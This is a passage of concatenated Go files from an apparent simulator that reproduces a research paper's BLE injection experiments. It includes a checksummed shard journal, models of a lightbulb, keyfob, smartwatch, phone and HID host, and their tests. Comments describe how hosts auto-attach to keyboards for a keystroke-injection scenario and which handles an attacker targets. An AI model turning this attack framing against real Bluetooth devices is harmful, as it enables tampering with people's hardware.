			rec.Index, rec.OK, rec.Failed)
	}
	if len(rec.Body) > journalMaxBody {
		return nil, fmt.Errorf("fabric: journal body %d bytes exceeds %d", len(rec.Body), journalMaxBody)
	}
	frame := 2 + len(rec.Key) + 4 + 4 + 4 + 4 + len(rec.Body) + journalDigest
	buf = binary.LittleEndian.AppendUint32(buf, uint32(frame))
	buf = binary.LittleEndian.AppendUint16(buf, uint16(len(rec.Key)))
	buf = append(buf, rec.Key...)
	buf = binary.LittleEndian.AppendUint32(buf, uint32(rec.Index))
	buf = binary.LittleEndian.AppendUint32(buf, uint32(rec.OK))
	buf = binary.LittleEndian.AppendUint32(buf, uint32(rec.Failed))
	buf = binary.LittleEndian.AppendUint32(buf, uint32(len(rec.Body)))
	buf = append(buf, rec.Body...)
	d := bodyDigest(rec.Body)
	return append(buf, d[:]...), nil
}

// ErrJournalCorrupt marks a checkpoint whose framed region is
// inconsistent — as opposed to merely torn at the tail, which decodes
// cleanly to the intact prefix.
var ErrJournalCorrupt = errors.New("fabric: shard journal corrupt")

// DecodeShardJournal parses a shard journal. A truncated final record is
// tolerated (the records before it are returned with a nil error); a
// record that is framed as complete but internally inconsistent — lengths
// that disagree or a payload failing its digest — returns the intact
// prefix together with an error wrapping ErrJournalCorrupt. An empty
// input decodes to no records (a journal that was created but never
// written).
func DecodeShardJournal(data []byte) ([]ShardRecord, error) {
	if len(data) == 0 {
		return nil, nil
	}
	if len(data) < len(journalMagic) || string(data[:len(journalMagic)]) != journalMagic {
		return nil, fmt.Errorf("%w: bad magic", ErrJournalCorrupt)
	}
	rest := data[len(journalMagic):]
	var recs []ShardRecord
	for len(rest) > 0 {
		if len(rest) < 4 {
			return recs, nil // torn frame length
		}
		frame := int(binary.LittleEndian.Uint32(rest[:4]))
		rest = rest[4:]
		if frame > len(rest) {
			return recs, nil // torn record body
		}
		if frame < journalMinRec {
			return recs, fmt.Errorf("%w: record %d framed at %d bytes, below the %d-byte minimum",
				ErrJournalCorrupt, len(recs), frame, journalMinRec)
		}
		rec, err := decodeRecord(rest[:frame])
		if err != nil {
			return recs, err
		}
		recs = append(recs, rec)
		rest = rest[frame:]
	}
	return recs, nil
}

// decodeRecord parses one complete frame.
func decodeRecord(b []byte) (ShardRecord, error) {
	keyLen := int(binary.LittleEndian.Uint16(b[:2]))
	if keyLen > journalMaxKey {
		return ShardRecord{}, fmt.Errorf("%w: key length %d exceeds %d", ErrJournalCorrupt, keyLen, journalMaxKey)
	}
	if len(b) < journalMinRec+keyLen {
		return ShardRecord{}, fmt.Errorf("%w: frame too short for its %d-byte key", ErrJournalCorrupt, keyLen)
	}
	b = b[2:]
	key := string(b[:keyLen])
	b = b[keyLen:]
	index := int(binary.LittleEndian.Uint32(b[:4]))
	ok := int(binary.LittleEndian.Uint32(b[4:8]))
	failed := int(binary.LittleEndian.Uint32(b[8:12]))
	bodyLen := int(binary.LittleEndian.Uint32(b[12:16]))
	b = b[16:]
	if len(b) != bodyLen+journalDigest {
		return ShardRecord{}, fmt.Errorf("%w: frame holds %d payload bytes, header promises %d",
			ErrJournalCorrupt, len(b)-journalDigest, bodyLen)
	}
	body := append([]byte(nil), b[:bodyLen]...)
	d := bodyDigest(body)
	if string(b[bodyLen:]) != string(d[:]) {
		return ShardRecord{}, fmt.Errorf("%w: payload digest mismatch for shard %q", ErrJournalCorrupt, key)
	}
	return ShardRecord{Key: key, Index: index, OK: ok, Failed: failed, Body: body}, nil
}

// Journal is an append-only on-disk shard checkpoint. One coordinator
// owns a journal at a time; Append syncs each record so a completed
// shard survives the coordinator's own crash.
type Journal struct {
	f *os.File
}

// OpenJournal opens (or creates) the checkpoint at path and replays the
// records already in it. A torn tail from a crashed append is discarded
// by truncating the file back to its intact prefix; a corrupt journal is
// an error — resuming from a checkpoint that lies would silently produce
// a wrong merged stream.
func OpenJournal(path string) (*Journal, []ShardRecord, error) {
	f, err := os.OpenFile(path, os.O_RDWR|os.O_CREATE, 0o644)
	if err != nil {
		return nil, nil, fmt.Errorf("fabric: opening journal: %w", err)
	}
	data, err := io.ReadAll(f)
	if err != nil {
		f.Close()
		return nil, nil, fmt.Errorf("fabric: reading journal: %w", err)
	}
	recs, err := DecodeShardJournal(data)
	if err != nil {
		f.Close()
		return nil, nil, err
	}
	intact := int64(len(journalMagic))
	if len(data) == 0 {
		// Fresh journal: stamp the magic so even an empty checkpoint is
		// self-identifying.
		if _, err := f.Write([]byte(journalMagic)); err != nil {
			f.Close()
			return nil, nil, fmt.Errorf("fabric: stamping journal: %w", err)
		}
	} else {
		for _, r := range recs {
			intact += 4 + int64(2+len(r.Key)+4+4+4+4+len(r.Body)+journalDigest)
		}
		if intact < int64(len(data)) {
			// Drop the torn tail so the next append starts on a frame
			// boundary.
			if err := f.Truncate(intact); err != nil {
				f.Close()
				return nil, nil, fmt.Errorf("fabric: truncating torn journal tail: %w", err)
			}
		}
	}
	if _, err := f.Seek(0, io.SeekEnd); err != nil {
		f.Close()
		return nil, nil, fmt.Errorf("fabric: seeking journal: %w", err)
	}
	return &Journal{f: f}, recs, nil
}

// Append checkpoints one completed shard, syncing it to disk before
// returning: once Append returns, a restarted coordinator will not
// recompute this shard.
func (j *Journal) Append(rec ShardRecord) error {
	buf, err := AppendShardRecord(nil, rec)
	if err != nil {
		return err
	}
	if _, err := j.f.Write(buf); err != nil {
		return fmt.Errorf("fabric: appending to journal: %w", err)
	}
	if err := j.f.Sync(); err != nil {
		return fmt.Errorf("fabric: syncing journal: %w", err)
	}
	return nil
}

// Close releases the journal file.
func (j *Journal) Close() error { return j.f.Close() }
