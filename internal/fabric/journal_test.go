package fabric

import (
	"bytes"
	"errors"
	"os"
	"path/filepath"
	"reflect"
	"testing"
)

func sampleRecords() []ShardRecord {
	return []ShardRecord{
		{Key: "aaaa0000", Index: 0, OK: 10, Failed: 0, Body: []byte(`{"kind":"result","ok":true}` + "\n")},
		{Key: "bbbb1111", Index: 1, OK: 8, Failed: 2, Body: []byte{}},
		{Key: "cccc2222", Index: 2, OK: 0, Failed: 1, Body: bytes.Repeat([]byte("x"), 1024)},
	}
}

func encodeJournal(t *testing.T, recs []ShardRecord) []byte {
	t.Helper()
	buf := []byte(journalMagic)
	for _, rec := range recs {
		var err error
		buf, err = AppendShardRecord(buf, rec)
		if err != nil {
			t.Fatal(err)
		}
	}
	return buf
}

func TestJournalRoundTrip(t *testing.T) {
	want := sampleRecords()
	got, err := DecodeShardJournal(encodeJournal(t, want))
	if err != nil {
		t.Fatal(err)
	}
	// An encoded empty body decodes to empty; normalize for comparison.
	for i := range got {
		if len(got[i].Body) == 0 {
			got[i].Body = []byte{}
		}
	}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("round trip changed records:\ngot  %+v\nwant %+v", got, want)
	}
}

func TestJournalToleratesTornTail(t *testing.T) {
	full := encodeJournal(t, sampleRecords())
	// Chop the journal at every byte boundary: the decode must never
	// error (the tear is always in the *last* record) and must return a
	// strict prefix of the records.
	for cut := len(journalMagic); cut < len(full); cut++ {
		recs, err := DecodeShardJournal(full[:cut])
		if err != nil {
			t.Fatalf("cut at %d: torn tail decoded as corruption: %v", cut, err)
		}
		if len(recs) >= len(sampleRecords()) {
			t.Fatalf("cut at %d: torn journal yielded all %d records", cut, len(recs))
		}
	}
}

func TestJournalDetectsCorruption(t *testing.T) {
	full := encodeJournal(t, sampleRecords())
	// Flip a payload byte inside the first record: digest must fail.
	bad := append([]byte(nil), full...)
	bad[len(journalMagic)+4+2+8+16+3] ^= 0xff
	if _, err := DecodeShardJournal(bad); !errors.Is(err, ErrJournalCorrupt) {
		t.Fatalf("flipped payload byte decoded with err=%v, want ErrJournalCorrupt", err)
	}
	if _, err := DecodeShardJournal([]byte("NOPE")); !errors.Is(err, ErrJournalCorrupt) {
		t.Fatal("bad magic accepted")
	}
	if recs, err := DecodeShardJournal(nil); err != nil || len(recs) != 0 {
		t.Fatalf("empty journal: recs=%v err=%v", recs, err)
	}
}

func TestJournalFileResumeAndTornAppend(t *testing.T) {
	path := filepath.Join(t.TempDir(), "shards.journal")
	j, recs, err := OpenJournal(path)
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 0 {
		t.Fatalf("fresh journal replayed %d records", len(recs))
	}
	want := sampleRecords()
	for _, rec := range want {
		if err := j.Append(rec); err != nil {
			t.Fatal(err)
		}
	}
	j.Close()

	// Simulate a crash mid-append: write a torn frame at the end.
	f, err := os.OpenFile(path, os.O_WRONLY|os.O_APPEND, 0)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.Write([]byte{0xEE, 0xFF, 0x00, 0x00, 0x01, 0x02}); err != nil {
		t.Fatal(err)
	}
	f.Close()

	j2, recs2, err := OpenJournal(path)
	if err != nil {
		t.Fatalf("reopening journal with torn tail: %v", err)
	}
	if len(recs2) != len(want) {
		t.Fatalf("replayed %d records, want %d", len(recs2), len(want))
	}
	// The torn tail must have been truncated away so appends resume on a
	// frame boundary.
	extra := ShardRecord{Key: "dddd3333", Index: 3, OK: 1, Body: []byte("y\n")}
	if err := j2.Append(extra); err != nil {
		t.Fatal(err)
	}
	j2.Close()
	_, recs3, err := OpenJournal(path)
	if err != nil {
		t.Fatal(err)
	}
	if len(recs3) != len(want)+1 || recs3[len(recs3)-1].Key != "dddd3333" {
		t.Fatalf("after torn-tail truncation + append: %d records, last %+v", len(recs3), recs3[len(recs3)-1])
	}
}
