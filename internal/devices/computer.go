package devices

import (
	"strings"

	"injectable/internal/att"
	"injectable/internal/ble"
	"injectable/internal/gatt"
	"injectable/internal/host"
	"injectable/internal/link"
)

// Computer models a HID-capable central host (a laptop or phone OS): it
// keeps a long-lived connection, subscribes to Service Changed, and — like
// every real HID host — automatically attaches to any keyboard profile it
// discovers, consuming keystroke reports. This auto-attach behaviour is
// exactly what the paper's §IX keystroke-injection scenario abuses.
type Computer struct {
	Central *host.Central

	// Typed accumulates decoded keystrokes from any attached keyboard.
	Typed strings.Builder
	// HIDAttached reports that a keyboard report characteristic is
	// subscribed.
	HIDAttached bool
	// Rediscoveries counts Service Changed-triggered rediscoveries.
	Rediscoveries int

	hidReportHandle uint16
}

// NewComputer builds the host on a device.
func NewComputer(dev *host.Device) *Computer {
	c := &Computer{}
	c.Central = host.NewCentral(dev, host.CentralConfig{})
	return c
}

// Connect establishes the connection and performs initial discovery.
func (c *Computer) Connect(target ble.Address) {
	userOnConnect := c.Central.OnConnect
	c.Central.OnConnect = func(conn *link.Conn) {
		if userOnConnect != nil {
			userOnConnect(conn)
		}
		c.wireIndications()
		c.discover()
	}
	c.Central.Connect(target)
}

// discover walks the peer's services, wiring Service Changed and HID.
func (c *Computer) discover() {
	g := c.Central.GATT()
	if g == nil {
		return
	}
	g.OnNotification = c.onNotification

	g.DiscoverServices(func(svcs []*gatt.RemoteService, err error) {
		if err != nil {
			return
		}
		for _, svc := range svcs {
			svc := svc
			g.DiscoverCharacteristics(svc, func(chars []*gatt.RemoteCharacteristic, err error) {
				if err != nil {
					return
				}
				for _, ch := range chars {
					switch ch.UUID {
					case UUIDServiceChanged:
						// Hosts always watch for GATT cache invalidation.
						if ch.CCCDHandle != 0 {
							g.ATT().Write(ch.CCCDHandle, []byte{0x02, 0x00}, func(att.Response) {})
						}
					case UUIDHIDReport:
						// HID host behaviour: attach to keyboards found.
						if ch.CCCDHandle != 0 {
							ch := ch
							g.Subscribe(ch, func(err error) {
								if err == nil {
									c.hidReportHandle = ch.ValueHandle
									c.HIDAttached = true
								}
							})
						}
					}
				}
			})
		}
	})
}

// onNotification consumes indications/notifications.
func (c *Computer) onNotification(handle uint16, value []byte) {
	if c.HIDAttached && handle == c.hidReportHandle {
		if r := DecodeBootReport(value); r != 0 {
			c.Typed.WriteRune(r)
		}
	}
}

// wireIndications hooks Service Changed handling: real hosts drop their
// GATT cache and rediscover when the peer indicates a structure change.
func (c *Computer) wireIndications() {
	g := c.Central.GATT()
	if g == nil {
		return
	}
	g.ATT().OnIndication = func(handle uint16, value []byte) {
		// Any Service Changed indication invalidates the cache: rediscover.
		c.Rediscoveries++
		c.HIDAttached = false
		c.discover()
	}
}
