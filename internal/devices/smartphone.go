package devices

import (
	"injectable/internal/ble"
	"injectable/internal/gatt"
	"injectable/internal/host"
	"injectable/internal/link"
	"injectable/internal/sim"
)

// Smartphone models the legitimate Central of the paper's experiments: it
// connects with a phone-typical Hop Interval (36 ≈ 45 ms), keeps the
// connection open indefinitely and generates light periodic traffic —
// exactly the long-lived connection InjectaBLE targets.
type Smartphone struct {
	Central *host.Central

	cfg SmartphoneConfig

	// writes to issue periodically once connected
	activity sim.EventRef
}

// SmartphoneConfig configures the phone model.
type SmartphoneConfig struct {
	// ConnParams overrides the default connection parameters.
	ConnParams link.ConnParams
	// ActivityInterval spaces periodic GATT activity (0 = 500 ms,
	// negative = no periodic traffic).
	ActivityInterval sim.Duration
	// ActivityHandle is the characteristic handle to write periodically
	// (0 = read the Device Name instead).
	ActivityHandle uint16
	// ActivityPayload is the payload written to ActivityHandle.
	ActivityPayload []byte
}

// NewSmartphone builds the phone on a device.
func NewSmartphone(dev *host.Device, cfg SmartphoneConfig) *Smartphone {
	if cfg.ConnParams.Interval == 0 {
		cfg.ConnParams.Interval = 36
	}
	if cfg.ActivityInterval == 0 {
		cfg.ActivityInterval = 500 * sim.Millisecond
	}
	p := &Smartphone{cfg: cfg}
	p.Central = host.NewCentral(dev, host.CentralConfig{ConnParams: cfg.ConnParams})
	return p
}

// Connect establishes the long-lived connection and starts activity.
func (p *Smartphone) Connect(target ble.Address) {
	userOnConnect := p.Central.OnConnect
	p.Central.OnConnect = func(conn *link.Conn) {
		if userOnConnect != nil {
			userOnConnect(conn)
		}
		p.scheduleActivity()
	}
	p.Central.Connect(target)
}

// GATT returns the phone's GATT client.
func (p *Smartphone) GATT() *gatt.Client { return p.Central.GATT() }

// scheduleActivity issues periodic GATT traffic while connected.
func (p *Smartphone) scheduleActivity() {
	if p.cfg.ActivityInterval < 0 || !p.Central.Connected() {
		return
	}
	sched := p.Central.Device.World.Sched
	p.activity = sched.After(p.cfg.ActivityInterval, "phone:activity", func() {
		if !p.Central.Connected() {
			return
		}
		if p.cfg.ActivityHandle != 0 {
			p.Central.GATT().WriteCommand(p.cfg.ActivityHandle, p.cfg.ActivityPayload)
		} else {
			// Default: poll the Device Name (handle 2 in our peripherals).
			p.Central.GATT().Read(2, func([]byte, error) {})
		}
		p.scheduleActivity()
	})
}

// StopActivity cancels periodic traffic.
func (p *Smartphone) StopActivity() {
	p.Central.Device.World.Sched.Cancel(p.activity)
}
