// Package devices provides behavioural models of the commercial BLE
// targets used in the paper's evaluation (§VI, §VII): an RGB lightbulb, a
// keyfob and a smartwatch, plus a smartphone Central that keeps a long
// -lived connection alive — the traffic pattern InjectaBLE rides on.
//
// Each device exposes a vendor GATT protocol whose write payloads have the
// exact on-air sizes the paper's experiments sweep (§VII-B: LL PDU lengths
// 4, 9, 14 and 16 bytes — the 14-byte "turn the light off" Write Request
// makes a 22-byte frame, 176 µs at LE 1M).
package devices

import (
	"fmt"

	"injectable/internal/att"
	"injectable/internal/gatt"
	"injectable/internal/host"
)

// Vendor protocol opcodes for the lightbulb (modelled on the reverse-
// engineered write payloads of typical BLE RGB bulbs).
const (
	bulbOpPower      = 0x01
	bulbOpColor      = 0x02
	bulbOpBrightness = 0x03
	bulbChecksum     = 0x55
)

// Lightbulb UUIDs.
var (
	// UUIDBulbService is the bulb's vendor service.
	UUIDBulbService = att.UUID16(0xFFE0)
	// UUIDBulbControl is the control characteristic all commands target.
	UUIDBulbControl = att.UUID16(0xFFE1)
)

// Lightbulb is the connected RGB bulb from the paper's experiments.
type Lightbulb struct {
	Peripheral *host.Peripheral

	// Observable state, mutated by accepted writes.
	On                bool
	R, G, B           uint8
	Brightness        uint8
	CommandsProcessed int

	control *gatt.Characteristic

	// OnChange observes every applied command (for experiment logging).
	OnChange func(what string)
}

// NewLightbulb builds the bulb on a device.
func NewLightbulb(dev *host.Device) *Lightbulb {
	b := &Lightbulb{Brightness: 255, R: 255, G: 255, B: 255}
	b.Peripheral = host.NewPeripheral(dev, host.PeripheralConfig{
		DeviceName:  "SMART-BULB",
		ReAdvertise: true,
	})
	b.control = &gatt.Characteristic{
		UUID:       UUIDBulbControl,
		Properties: gatt.PropRead | gatt.PropWrite | gatt.PropWriteNoResponse,
		OnWrite:    b.handleCommand,
	}
	b.Peripheral.GATT.AddService(&gatt.Service{
		UUID:            UUIDBulbService,
		Characteristics: []*gatt.Characteristic{b.control},
	})
	return b
}

// ControlHandle returns the control characteristic's value handle — the
// handle an attacker targets after reverse-engineering the protocol.
func (b *Lightbulb) ControlHandle() uint16 { return b.control.ValueHandle }

// handleCommand applies one vendor command.
func (b *Lightbulb) handleCommand(v []byte) {
	if len(v) == 0 {
		// Empty write: toggle (the 9-byte-PDU command of experiment 2).
		b.On = !b.On
		b.applied("toggle")
		return
	}
	switch v[0] {
	case bulbOpPower:
		// {0x01, on, 0, 0, 0x55}: 5-byte value → 14-byte PDU → the paper's
		// 22-byte turn-off frame.
		if len(v) != 5 || v[4] != bulbChecksum {
			return
		}
		b.On = v[1] != 0
		b.applied("power")
	case bulbOpColor:
		// {0x02, r, g, b, w, mode, 0x55}: 7-byte value → 16-byte PDU.
		if len(v) != 7 || v[6] != bulbChecksum {
			return
		}
		b.R, b.G, b.B = v[1], v[2], v[3]
		b.applied("color")
	case bulbOpBrightness:
		// {0x03, level}: 2-byte value → 11-byte PDU.
		if len(v) != 2 {
			return
		}
		b.Brightness = v[1]
		b.applied("brightness")
	}
}

func (b *Lightbulb) applied(what string) {
	b.CommandsProcessed++
	if b.OnChange != nil {
		b.OnChange(what)
	}
}

// PowerCommand builds the 5-byte power payload (14-byte PDU on air).
func PowerCommand(on bool) []byte {
	v := byte(0)
	if on {
		v = 1
	}
	return []byte{bulbOpPower, v, 0x00, 0x00, bulbChecksum}
}

// ColorCommand builds the 7-byte colour payload (16-byte PDU on air).
func ColorCommand(r, g, b uint8) []byte {
	return []byte{bulbOpColor, r, g, b, 0x00, 0x00, bulbChecksum}
}

// BrightnessCommand builds the 2-byte brightness payload (11-byte PDU).
func BrightnessCommand(level uint8) []byte {
	return []byte{bulbOpBrightness, level}
}

// ToggleCommand is the empty payload (9-byte PDU on air).
func ToggleCommand() []byte { return nil }

// String implements fmt.Stringer.
func (b *Lightbulb) String() string {
	return fmt.Sprintf("Lightbulb(on=%t rgb=%d,%d,%d bri=%d)", b.On, b.R, b.G, b.B, b.Brightness)
}

// Keyfob UUIDs (Immediate Alert service).
var (
	// UUIDImmediateAlert is the standard Immediate Alert service.
	UUIDImmediateAlert = att.UUID16(0x1802)
	// UUIDAlertLevel is the Alert Level characteristic.
	UUIDAlertLevel = att.UUID16(0x2A06)
)

// Keyfob is the findable keyfob of the paper (§VI-A: "making the keyfob
// ring").
type Keyfob struct {
	Peripheral *host.Peripheral

	Ringing   bool
	RingCount int

	alert *gatt.Characteristic
}

// NewKeyfob builds the keyfob on a device.
func NewKeyfob(dev *host.Device) *Keyfob {
	k := &Keyfob{}
	k.Peripheral = host.NewPeripheral(dev, host.PeripheralConfig{
		DeviceName:  "KeyFob",
		ReAdvertise: true,
	})
	k.alert = &gatt.Characteristic{
		UUID:       UUIDAlertLevel,
		Properties: gatt.PropWriteNoResponse | gatt.PropWrite,
		OnWrite: func(v []byte) {
			if len(v) != 1 {
				return
			}
			k.Ringing = v[0] > 0
			if k.Ringing {
				k.RingCount++
			}
		},
	}
	k.Peripheral.GATT.AddService(&gatt.Service{
		UUID:            UUIDImmediateAlert,
		Characteristics: []*gatt.Characteristic{k.alert},
	})
	return k
}

// AlertHandle returns the Alert Level value handle.
func (k *Keyfob) AlertHandle() uint16 { return k.alert.ValueHandle }

// RingCommand builds the 1-byte high-alert payload.
func RingCommand() []byte { return []byte{0x02} }

// Smartwatch UUIDs (vendor notification protocol).
var (
	// UUIDWatchService is the watch's vendor service.
	UUIDWatchService = att.UUID16(0xFEE0)
	// UUIDWatchSMS receives SMS pushes from the phone.
	UUIDWatchSMS = att.UUID16(0xFEE1)
	// UUIDWatchHealth notifies health data (heart rate) to the phone.
	UUIDWatchHealth = att.UUID16(0xFEE2)
)

// Smartwatch is the watch of §VI-A/§VI-D: the phone pushes SMS text to it,
// and scenario D rewrites that text in flight.
type Smartwatch struct {
	Peripheral *host.Peripheral

	// Messages lists SMS texts displayed so far.
	Messages []string

	sms    *gatt.Characteristic
	health *gatt.Characteristic
}

// NewSmartwatch builds the watch on a device.
func NewSmartwatch(dev *host.Device) *Smartwatch {
	w := &Smartwatch{}
	w.Peripheral = host.NewPeripheral(dev, host.PeripheralConfig{
		DeviceName:  "FitWatch",
		ReAdvertise: true,
	})
	w.sms = &gatt.Characteristic{
		UUID:       UUIDWatchSMS,
		Properties: gatt.PropWrite | gatt.PropWriteNoResponse,
		OnWrite: func(v []byte) {
			w.Messages = append(w.Messages, string(v))
		},
	}
	w.health = &gatt.Characteristic{
		UUID:       UUIDWatchHealth,
		Properties: gatt.PropRead | gatt.PropNotify,
		Value:      []byte{60},
	}
	w.Peripheral.GATT.AddService(&gatt.Service{
		UUID:            UUIDWatchService,
		Characteristics: []*gatt.Characteristic{w.sms, w.health},
	})
	return w
}

// SMSHandle returns the SMS characteristic's value handle.
func (w *Smartwatch) SMSHandle() uint16 { return w.sms.ValueHandle }

// HealthChar returns the health characteristic (for notifications).
func (w *Smartwatch) HealthChar() *gatt.Characteristic { return w.health }

// PushHealth updates and notifies a heart-rate sample.
func (w *Smartwatch) PushHealth(bpm uint8) {
	w.Peripheral.GATT.SetValue(w.health, []byte{bpm})
}
