package devices

import (
	"testing"

	"injectable/internal/host"
	"injectable/internal/phy"
	"injectable/internal/sim"
)

func world(seed uint64) *host.World {
	return host.NewWorld(host.WorldConfig{Seed: seed})
}

func TestPayloadSizesMatchPaper(t *testing.T) {
	// The experiment sweep of §VII-B uses LL PDU lengths 4, 9, 14, 16.
	// PDU = 2 (LL header) + 4 (L2CAP) + 3 (ATT write cmd hdr) + value.
	pduLen := func(value []byte) int { return 2 + 4 + 3 + len(value) }
	if got := pduLen(PowerCommand(false)); got != 14 {
		t.Errorf("power command PDU = %d, want 14 (paper's 22-byte frame)", got)
	}
	if got := pduLen(ColorCommand(1, 2, 3)); got != 16 {
		t.Errorf("color command PDU = %d, want 16", got)
	}
	if got := pduLen(ToggleCommand()); got != 9 {
		t.Errorf("toggle command PDU = %d, want 9", got)
	}
	// 22-byte frame = 176 µs at LE 1M.
	if phy.LE1M.AirTime(14) != 176*sim.Microsecond {
		t.Error("turn-off frame air time != 176 µs")
	}
}

func TestLightbulbCommands(t *testing.T) {
	w := world(1)
	bulb := NewLightbulb(w.NewDevice(host.DeviceConfig{Name: "bulb"}))
	var changes []string
	bulb.OnChange = func(s string) { changes = append(changes, s) }

	bulb.handleCommand(PowerCommand(true))
	if !bulb.On {
		t.Fatal("power on failed")
	}
	bulb.handleCommand(ColorCommand(10, 20, 30))
	if bulb.R != 10 || bulb.G != 20 || bulb.B != 30 {
		t.Fatal("color failed")
	}
	bulb.handleCommand(BrightnessCommand(100))
	if bulb.Brightness != 100 {
		t.Fatal("brightness failed")
	}
	bulb.handleCommand(ToggleCommand())
	if bulb.On {
		t.Fatal("toggle failed")
	}
	if bulb.CommandsProcessed != 4 || len(changes) != 4 {
		t.Fatalf("processed=%d changes=%v", bulb.CommandsProcessed, changes)
	}
	if bulb.String() == "" {
		t.Fatal("String empty")
	}
}

func TestLightbulbRejectsMalformedCommands(t *testing.T) {
	w := world(2)
	bulb := NewLightbulb(w.NewDevice(host.DeviceConfig{Name: "bulb"}))
	bulb.handleCommand([]byte{0x01, 1, 0, 0, 0x00}) // bad checksum
	bulb.handleCommand([]byte{0x01, 1})             // short
	bulb.handleCommand([]byte{0x02, 1, 2, 3})       // short color
	bulb.handleCommand([]byte{0x99, 1, 2})          // unknown op
	if bulb.CommandsProcessed != 0 || bulb.On {
		t.Fatal("malformed command accepted")
	}
}

func TestLightbulbOverRadio(t *testing.T) {
	w := world(3)
	bulb := NewLightbulb(w.NewDevice(host.DeviceConfig{Name: "bulb", Position: phy.Position{X: 0}}))
	phone := NewSmartphone(w.NewDevice(host.DeviceConfig{Name: "phone", Position: phy.Position{X: 2}}),
		SmartphoneConfig{ActivityInterval: -1})

	bulb.Peripheral.StartAdvertising()
	phone.Connect(bulb.Peripheral.Device.Address())
	w.RunFor(2 * sim.Second)
	if !phone.Central.Connected() {
		t.Fatal("phone did not connect")
	}
	phone.GATT().Write(bulb.ControlHandle(), PowerCommand(true), func(err error) {
		if err != nil {
			t.Fatal(err)
		}
	})
	w.RunFor(sim.Second)
	if !bulb.On {
		t.Fatal("bulb not turned on over radio")
	}
}

func TestKeyfobRings(t *testing.T) {
	w := world(4)
	fob := NewKeyfob(w.NewDevice(host.DeviceConfig{Name: "fob", Position: phy.Position{X: 0}}))
	phone := NewSmartphone(w.NewDevice(host.DeviceConfig{Name: "phone", Position: phy.Position{X: 2}}),
		SmartphoneConfig{ActivityInterval: -1})
	fob.Peripheral.StartAdvertising()
	phone.Connect(fob.Peripheral.Device.Address())
	w.RunFor(2 * sim.Second)
	phone.GATT().WriteCommand(fob.AlertHandle(), RingCommand())
	w.RunFor(sim.Second)
	if !fob.Ringing || fob.RingCount != 1 {
		t.Fatalf("ringing=%t count=%d", fob.Ringing, fob.RingCount)
	}
}

func TestSmartwatchReceivesSMS(t *testing.T) {
	w := world(5)
	watch := NewSmartwatch(w.NewDevice(host.DeviceConfig{Name: "watch", Position: phy.Position{X: 0}}))
	phone := NewSmartphone(w.NewDevice(host.DeviceConfig{Name: "phone", Position: phy.Position{X: 2}}),
		SmartphoneConfig{ActivityInterval: -1})
	watch.Peripheral.StartAdvertising()
	phone.Connect(watch.Peripheral.Device.Address())
	w.RunFor(2 * sim.Second)
	phone.GATT().WriteCommand(watch.SMSHandle(), []byte("Meet at noon"))
	w.RunFor(sim.Second)
	if len(watch.Messages) != 1 || watch.Messages[0] != "Meet at noon" {
		t.Fatalf("messages = %v", watch.Messages)
	}
}

func TestSmartphonePeriodicActivity(t *testing.T) {
	w := world(6)
	bulb := NewLightbulb(w.NewDevice(host.DeviceConfig{Name: "bulb", Position: phy.Position{X: 0}}))
	phone := NewSmartphone(w.NewDevice(host.DeviceConfig{Name: "phone", Position: phy.Position{X: 2}}),
		SmartphoneConfig{
			ActivityInterval: 200 * sim.Millisecond,
			ActivityHandle:   bulb.ControlHandle(),
			ActivityPayload:  BrightnessCommand(50),
		})
	bulb.Peripheral.StartAdvertising()
	phone.Connect(bulb.Peripheral.Device.Address())
	w.RunFor(3 * sim.Second)
	if bulb.CommandsProcessed < 5 {
		t.Fatalf("only %d periodic commands arrived", bulb.CommandsProcessed)
	}
	phone.StopActivity()
	n := bulb.CommandsProcessed
	w.RunFor(sim.Second)
	if bulb.CommandsProcessed != n {
		t.Fatal("activity continued after StopActivity")
	}
}

func TestSmartphoneDefaultInterval(t *testing.T) {
	w := world(7)
	phone := NewSmartphone(w.NewDevice(host.DeviceConfig{Name: "phone"}), SmartphoneConfig{})
	if phone.cfg.ConnParams.Interval != 36 {
		t.Fatalf("default interval = %d, want 36 (the paper's phone default)", phone.cfg.ConnParams.Interval)
	}
}

func TestSmartwatchHealthNotification(t *testing.T) {
	w := world(8)
	watch := NewSmartwatch(w.NewDevice(host.DeviceConfig{Name: "watch", Position: phy.Position{X: 0}}))
	phone := NewSmartphone(w.NewDevice(host.DeviceConfig{Name: "phone", Position: phy.Position{X: 2}}),
		SmartphoneConfig{ActivityInterval: -1})
	watch.Peripheral.StartAdvertising()
	phone.Connect(watch.Peripheral.Device.Address())
	w.RunFor(2 * sim.Second)

	var got []byte
	phone.GATT().OnNotification = func(h uint16, v []byte) { got = v }
	phone.GATT().Write(watch.HealthChar().CCCDHandle, []byte{1, 0}, func(err error) {
		if err != nil {
			t.Fatal(err)
		}
	})
	w.RunFor(sim.Second)
	watch.PushHealth(72)
	w.RunFor(sim.Second)
	if len(got) != 1 || got[0] != 72 {
		t.Fatalf("health notification = % x", got)
	}
}
