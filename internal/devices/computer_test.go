package devices

import (
	"testing"

	"injectable/internal/gatt"
	"injectable/internal/host"
	"injectable/internal/phy"
	"injectable/internal/sim"
)

// TestComputerAttachesToLegitimateKeyboard: the HID-host behaviour works
// for its intended purpose too — a real wireless keyboard peripheral.
func TestComputerAttachesToLegitimateKeyboard(t *testing.T) {
	w := host.NewWorld(host.WorldConfig{Seed: 40})
	kbdDev := w.NewDevice(host.DeviceConfig{Name: "kbd", Position: phy.Position{X: 0}})
	profile := NewKeyboardProfile("BT Keyboard")

	// Serve the profile from a real peripheral: rebuild it onto the
	// peripheral's GATT server by re-registering its services.
	per := host.NewPeripheral(kbdDev, host.PeripheralConfig{DeviceName: "BT Keyboard"})
	for _, svc := range profile.GATT.Services() {
		if svc.UUID == UUIDGATTService || svc.UUID == UUIDHIDService {
			cp := &gatt.Service{UUID: svc.UUID}
			for _, ch := range svc.Characteristics {
				cp.Characteristics = append(cp.Characteristics, &gatt.Characteristic{
					UUID: ch.UUID, Properties: ch.Properties, Value: append([]byte(nil), ch.Value...),
				})
			}
			per.GATT.AddService(cp)
		}
	}
	reportChar := per.GATT.FindCharacteristic(UUIDHIDReport)
	if reportChar == nil {
		t.Fatal("profile not re-registered")
	}

	laptop := NewComputer(w.NewDevice(host.DeviceConfig{Name: "laptop", Position: phy.Position{X: 2}}))
	per.StartAdvertising()
	laptop.Connect(kbdDev.Address())
	w.RunFor(5 * sim.Second)

	if !laptop.Central.Connected() {
		t.Fatal("not connected")
	}
	if !laptop.HIDAttached {
		t.Fatal("HID host did not attach to the keyboard")
	}
